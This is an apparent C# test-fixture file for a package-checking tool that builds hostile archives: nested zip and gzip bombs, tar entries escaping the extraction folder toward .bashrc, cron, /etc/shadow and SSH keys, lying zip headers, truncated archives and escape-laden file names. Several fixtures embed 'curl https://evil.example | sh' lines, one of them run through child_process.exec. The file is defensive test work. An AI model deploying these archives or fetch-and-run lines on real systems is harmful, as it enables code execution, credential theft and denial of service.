using System.IO.Compression;
using System.Text;
using PackGuard.Tests.Support;

namespace PackGuard.Cli.Tests.Hostile;

internal static partial class HostileCorpus
{
    /// <summary>How many archives each level of <see cref="NestedZipBomb"/> holds, as in 42.zip.</summary>
    public const int BombFanOut = 16;

    /// <summary>Zip levels below the top of <see cref="NestedZipBomb"/>: 16^4 leaves of 1 GiB, 64 TiB in all.</summary>
    public const int BombLevels = 4;

    /// <summary>
    /// A 42.zip-like bomb: a zip of 16 zips of 16 zips ... whose 65,536 leaves each hold 1 GiB of
    /// zeros. Each level is modest; only the product explodes (64 TiB from about 1 MB).
    /// </summary>
    public static void NestedZipBomb(Stream output)
    {
        var level = ZipOfZeros("zeros.bin", 1L << 30);
        for (var depth = 1; depth < BombLevels; depth++)
            level = ZipBytes([.. Enumerable.Range(0, BombFanOut).Select(i => ($"lib{i:D2}.zip", level))]);
        using var top = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true);
        for (var i = 0; i < BombFanOut; i++)
        {
            using var entry = top.CreateEntry($"lib{i:D2}.zip", CompressionLevel.Optimal).Open();
            entry.Write(level);
        }
    }

    /// <summary>A zip whose one entry is 2 GiB of zeros (about 2 MB compressed, a ratio near 1,000).</summary>
    public static void HighRatioZip(Stream output)
    {
        using var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true);
        using var entry = zip.CreateEntry("package/data.bin", CompressionLevel.Optimal).Open();
        WriteZeros(entry, 2L << 30);
    }

    /// <summary>An npm tarball whose second entry is 6 GiB of zeros: a few MB on disk.</summary>
    public static void GzipBomb(Stream output) => TarGz(output, tar =>
    {
        tar.File("package/package.json", ProprietaryManifest);
        tar.File("package/zeros.bin", 6L << 30, s => WriteZeros(s, 6L << 30));
    });

    /// <summary>Every way a tar entry can land outside the directory it is extracted into.</summary>
    public static void EscapingTar(Stream output) => TarGz(output, tar =>
    {
        tar.File("package/package.json", ProprietaryManifest);
        tar.File("package/../../../../home/user/.bashrc", "curl https://evil.example/x | sh\n");
        tar.File("/etc/cron.d/backdoor", "* * * * * root sh /tmp/x\n");
        tar.Symlink("package/config", "../../../../etc/passwd");
        tar.Symlink("package/key", "/home/user/.ssh/id_rsa");
        tar.Hardlink("package/shadow", "../../etc/shadow");
    });

    /// <summary>
    /// The same names twice (package.json with two different licences, index.js with two bodies)
    /// and names that differ only in case, which collide on Windows and macOS file systems.
    /// </summary>
    public static void DuplicateNamesTar(Stream output) => TarGz(output, tar =>
    {
        tar.File("package/package.json", """{"name":"dup","version":"1.0.0","license":"MIT","repository":"github:acme/dup"}""");
        tar.File("package/index.js", "module.exports = 1;\n");
        tar.File("package/package.json", ProprietaryManifest);
        tar.File("package/index.js", "require('child_process').exec('curl https://evil.example | sh');\n");
        tar.File("package/a.js", "module.exports = 'a';\n");
        tar.File("package/A.js", "module.exports = 'A';\n");
    });

    /// <summary>An uncompressed tar whose last entry's header declares 1 GiB but only 100 bytes follow.</summary>
    public static void TarWithOversizedHeader(Stream output)
    {
        var tar = new RawTarWriter(output);
        tar.File("package/package.json", ProprietaryManifest);
        tar.FileHeader("package/huge.js", 1L << 30);
        output.Write(Encoding.ASCII.GetBytes(new string('x', 100)));
    }

    /// <summary>
    /// A zip whose entry says, in both its local header and the central directory, that it
    /// inflates to 16 bytes, while its deflate stream holds 1 MiB (a payload after the first bytes).
    /// </summary>
    public static byte[] ZipWithUnderstatedSize()
    {
        var content = new byte[1 << 20];
        Encoding.ASCII.GetBytes("module.exports=1;").CopyTo(content, 0);
        Encoding.ASCII.GetBytes("require('child_process').exec('curl https://evil.example | sh');").CopyTo(content, content.Length - 100);
        var zip = ZipBytes(("package/package.json", Encoding.UTF8.GetBytes(ProprietaryManifest)), ("package/index.js", content));
        var patch = new ZipPatch(zip);
        patch.SetUncompressedSize(1, 16);
        return zip;
    }

    /// <summary>A zip whose entry claims a compressed size far beyond the end of the file.</summary>
    public static byte[] ZipWithOverstatedCompressedSize()
    {
        var zip = ZipBytes(("package/package.json", Encoding.UTF8.GetBytes(ProprietaryManifest)), ("package/index.js", Encoding.UTF8.GetBytes("module.exports = 1;\n")));
        var patch = new ZipPatch(zip);
        patch.SetCompressedSize(1, 0x7FFF_0000);
        return zip;
    }

    /// <summary>An npm tarball with some real content, cut in the middle of its gzip stream.</summary>
    public static byte[] TruncatedGzip()
    {
        using var buffer = new MemoryStream();
        TarGz(buffer, tar =>
        {
            tar.File("package/package.json", ProprietaryManifest);
            tar.File("package/lib.js", 1 << 20, s => WriteCode(s, 1 << 20));
        }, CompressionLevel.Fastest);
        return buffer.ToArray()[..(int)(buffer.Length / 2)];
    }

    /// <summary>A plain tar cut in the middle of an entry's data.</summary>
    public static byte[] TruncatedTar()
    {
        using var buffer = new MemoryStream();
        Tar(buffer, tar =>
        {
            tar.File("package/package.json", ProprietaryManifest);
            tar.File("package/lib.js", 64 * 1024, s => WriteCode(s, 64 * 1024));
        });
        return buffer.ToArray()[..(RawTarWriter.BlockSize * 3 + 10_000)];
    }

    /// <summary>A zip cut in the middle of its last entry: no central directory at all.</summary>
    public static byte[] TruncatedZip()
    {
        var content = new byte[256 * 1024];
        new Random(42).NextBytes(content);
        var zip = ZipBytes(("package/package.json", Encoding.UTF8.GetBytes(ProprietaryManifest)), ("package/blob.bin", content));
        return zip[..(zip.Length * 2 / 3)];
    }

    /// <summary>A small package zip whose central directory tells <paramref name="lie"/>.</summary>
    public static byte[] ZipWithLyingCentralDirectory(CentralDirectoryLie lie)
    {
        var zip = ZipBytes(
            ("package/package.json", Encoding.UTF8.GetBytes(ProprietaryManifest)),
            ("package/index.js", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("module.exports = 1;\n", 200)))));
        var patch = new ZipPatch(zip);
        switch (lie)
        {
            case CentralDirectoryLie.OffsetPastEnd:
                patch.SetCentralDirectoryOffset((uint)zip.Length + 1_000_000);
                break;
            case CentralDirectoryLie.LocalOffsetIntoData:
                patch.SetLocalHeaderOffset(1, patch.LocalHeaderOffset(1) - 20);
                break;
            case CentralDirectoryLie.EntryCount:
                patch.SetEntryCount(ushort.MaxValue);
                break;
            default:
                patch.SetLocalName(1, "package/pwned.sh");
                break;
        }
        return zip;
    }

    /// <summary>
    /// Entry names no tool writes: bytes that are not UTF-8, a terminal escape that would recolour
    /// (or retitle) the terminal that prints it, a newline that forges a line of output, a bell
    /// and a carriage return, and a NUL that C-based tools read as the end of the name.
    /// </summary>
    public static void BadNamesTar(Stream output) => TarGz(output, tar =>
    {
        tar.File("package/package.json", ProprietaryManifest);
        tar.File([.. "package/"u8, 0xFF, 0xFE, 0xC3, 0x28, .. ".js"u8], "module.exports = 1;\n"u8.ToArray());
        tar.File("package/\u001b[31mred\u001b]0;pwned\u0007.js", "x");
        tar.File("package/line\nFAKE: all clear.js", "x");
        tar.File("package/bell\u0007\rcr.js", "x");
        tar.File([.. "package/nul.js"u8, 0, .. "hidden.sh"u8], "x"u8.ToArray());
    });

    /// <summary>An npm tarball of <paramref name="count"/> one-line files.</summary>
    public static void ManyEntries(Stream output, int count) => TarGz(output, tar =>
    {
        tar.File("package/package.json", ProprietaryManifest);
        for (var i = 0; i < count; i++)
            tar.File($"package/lib/m{i:D6}.js", $"module.exports = {i};\n");
    }, CompressionLevel.Fastest);

    /// <summary>A tarball holding a tarball holding ... <paramref name="depth"/> levels deep, a note at the bottom.</summary>
    public static byte[] NestedTarballs(int depth)
    {
        var level = TarGzBytes(tar => tar.File("package/bottom.txt", "the bottom\n"));
        for (var i = 1; i < depth; i++)
        {
            var inner = level;
            level = TarGzBytes(tar => tar.File("package/inner.tgz", inner));
        }
        return level;
    }

    /// <summary>A zip holding a zip holding ... <paramref name="depth"/> levels deep.</summary>
    public static byte[] NestedZips(int depth)
    {
        var level = ZipBytes(("bottom.txt", "the bottom\n"u8.ToArray()));
        for (var i = 1; i < depth; i++)
            level = ZipBytes(("inner.zip", level));
        return level;
    }

    private static byte[] ZipOfZeros(string name, long size)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
            WriteZeros(entry, size);
        }
        return buffer.ToArray();
    }
}
